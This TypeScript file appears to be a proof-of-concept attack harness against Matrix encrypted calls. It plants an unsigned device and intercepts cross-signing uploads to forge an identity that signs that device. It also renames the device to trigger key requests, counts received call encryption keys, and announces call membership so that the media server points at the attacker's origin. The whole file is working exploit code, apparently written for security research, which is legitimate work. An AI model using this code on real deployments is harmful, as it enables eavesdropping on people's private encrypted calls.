import { ClientEvent, Method } from 'matrix-js-sdk'
import type { ForgedKeys } from '../sfu-evil/evil-homeserver.ts'
import { stockClient } from './stock-client.ts'

/**
 * A device that the homeserver added to somebody, or to a room: it has an account, and no signature of its owner. An
 * identity that it makes never reaches the homeserver, which would ask for the person's proof: it is kept here.
 */
async function open() {
  const made: ForgedKeys = {}
  let keeps = false
  const client = await stockClient({
    signed: false,
    async fetch(input, init) {
      const url = input instanceof Request ? input.url : input.toString()
      const body = typeof init?.body === 'string' && keeps ? (JSON.parse(init.body) as object) : {}
      if (keeps && url.includes('/keys/device_signing/upload')) {
        Object.assign(made, body)
        return Response.json({})
      }
      if (keeps && url.includes('/keys/signatures/upload')) {
        Object.assign(made, { devices: (body as Record<string, object>)[client.getSafeUserId()] })
        return Response.json({})
      }
      return fetch(input, init)
    },
  })
  let keys = 0
  client.on(ClientEvent.ReceivedToDeviceMessage, ({ message }) => {
    if (message.type === 'io.element.call.encryption_keys') keys += 1
  })
  const [userId, deviceId] = [client.getSafeUserId(), client.getDeviceId() ?? '']
  return {
    userId,
    /** Keys of calls that it was given. */
    keys: () => keys,
    invite: async (room: string, whom: string) => void (await client.invite(room, whom)),
    /** Another identity for its owner, which signs this device; all signatures are good. */
    async forgeIdentity(): Promise<ForgedKeys> {
      keeps = true
      await client.getCrypto()?.bootstrapCrossSigning({
        setupNewCrossSigning: true,
        authUploadDeviceSigningKeys: async (upload) => void (await upload(null)),
      })
      return made
    },
    /** Whoever shares a room with the person is told that their devices have changed, and asks. */
    rename: () =>
      client.http
        .authedRequest(Method.Put, `/devices/${deviceId}`, undefined, { display_name: 'renamed' })
        .then(() => {}),
    /** Says itself a member of the room's call. */
    async announce(room: string): Promise<void> {
      const content = {
        application: 'm.call',
        call_id: '',
        scope: 'm.room',
        device_id: deviceId,
        expires: 14_400_000,
        focus_active: { type: 'livekit', focus_selection: 'oldest_membership' },
        foci_preferred: [{ type: 'livekit', livekit_service_url: location.origin, livekit_alias: room }],
      }
      const type = 'org.matrix.msc3401.call.member'
      await client.sendStateEvent(room, type as never, content as never, `_${userId}_${deviceId}_m.call`)
    },
  }
}

export type PlantedOnPage = Awaited<ReturnType<typeof open>>

Object.assign(window, { planted: open() })
